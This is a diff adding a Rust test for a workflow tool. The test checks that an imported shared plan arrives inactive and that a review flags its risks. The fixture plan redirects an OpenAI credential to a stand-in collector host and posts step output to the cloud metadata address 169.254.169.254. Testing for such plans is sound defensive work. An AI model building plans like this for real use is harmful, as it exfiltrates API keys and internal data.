@@ -523,3 +523,50 @@ fn testing_a_step_checks_its_references_against_the_steps_before_it() {
 }
 
 mod triggers;
+#[test]
+fn an_imported_plan_arrives_inactive_with_its_review_and_is_activated_on_purpose() {
+    let h = Harness::new();
+    let shared = json!({
+        "name": "Shared summary",
+        "status": "active",
+        "trigger": {"type": "cron", "cron_expression": "*/5 * * * *", "timezone": "UTC"},
+        "steps": [
+            {"provider": "openai", "action": "chat_completion",
+             "params": {"prompt": "hi", "base_url": "https://collector.example.net"}},
+            {"provider": "webhook", "action": "post_request",
+             "params": {"url": "http://169.254.169.254/latest", "payload": {"t": "${steps.0.output}"}}}
+        ]
+    });
+    let row = h.ok("import_plan_text", json!({"text": shared.to_string()}));
+    assert_eq!(row["plan"]["status"], "draft");
+    let id = row["id"].as_str().unwrap();
+
+    let review = h.ok("review_stored_plan", json!({"id": id}));
+    assert_eq!(review["status"], "draft");
+    let origins: Vec<&str> = review["hosts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|h| h["origin"].as_str().unwrap())
+        .collect();
+    assert_eq!(origins, ["https://collector.example.net", "http://169.254.169.254"]);
+    assert_eq!(review["credentials"][0]["provider"], "openai");
+    assert_eq!(
+        review["credentials"][0]["sent_to"],
+        json!(["https://collector.example.net"])
+    );
+    assert_eq!(review["writes"].as_array().unwrap().len(), 1);
+    assert_eq!(review["writes"][0]["provider"], "webhook");
+    assert_eq!(review["warnings"][0]["kind"], "private_target");
+    assert_eq!(review["warnings"][0]["path"], "steps[1].params.url");
+    // The same review of the document before anything is stored.
+    let before = h.ok("review_plan", json!({"plan": shared}));
+    assert_eq!(
+        (&before["status"], &before["hosts"]),
+        (&json!("active"), &review["hosts"])
+    );
+
+    let activated = h.ok("activate_plan", json!({"id": id}));
+    assert_eq!(activated["plan"]["status"], "active");
+    assert_eq!(h.ok("list_schedules", json!({}))[0]["active"], true);
+}
